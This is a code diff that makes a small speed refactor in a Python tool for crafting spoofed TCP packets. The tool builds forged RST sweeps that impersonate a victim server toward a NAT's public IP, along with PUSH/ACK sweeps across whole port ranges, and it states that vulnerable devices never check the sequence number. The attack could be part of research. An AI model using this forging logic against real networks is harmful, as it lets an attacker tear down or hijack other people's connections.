@@ -34,6 +34,10 @@ from .wire import (
     check_range,
 )
 
+# Enum members read per packet: through the class, each read costs several times a global
+_TCP = Protocol.TCP
+_RST = TcpFlag.RST
+
 WINDOWS_EPHEMERAL = (49152, 65535)
 # forged packets one plan may send: 8 rounds of two full 65,536-port sweeps
 MAX_FORGED_PACKETS = 1 << 20
@@ -124,7 +128,7 @@ def craft_rst_sweep(plan: AttackPlan, ports: range | None = None) -> list[Ipv4Da
     """One forged 40-octet RST per destination port (by default the plan's
     whole range), spoofing the victim server; the sequence number is
     whatever the plan says, because a vulnerable device never checks it."""
-    flags = RST_ACK if plan.set_ack_flag_on_rst else TcpFlag.RST
+    flags = RST_ACK if plan.set_ack_flag_on_rst else _RST
     if ports is None:
         ports = _port_span(plan.dst_port_range)
     server_addr, server_port = plan.victim_server
@@ -132,7 +136,7 @@ def craft_rst_sweep(plan: AttackPlan, ports: range | None = None) -> list[Ipv4Da
         Ipv4Datagram(
             src=server_addr,
             dst=plan.nat_public_ip,
-            protocol=Protocol.TCP,
+            protocol=_TCP,
             payload=TcpSegment(server_port, port, seq=plan.forged_seq, flags=flags),
         )
         for port in ports
@@ -157,7 +161,7 @@ def craft_push_ack_sweep(
         Ipv4Datagram(
             src=plan.nat_public_ip,
             dst=server_addr,
-            protocol=Protocol.TCP,
+            protocol=_TCP,
             payload=TcpSegment(
                 port,
                 server_port,
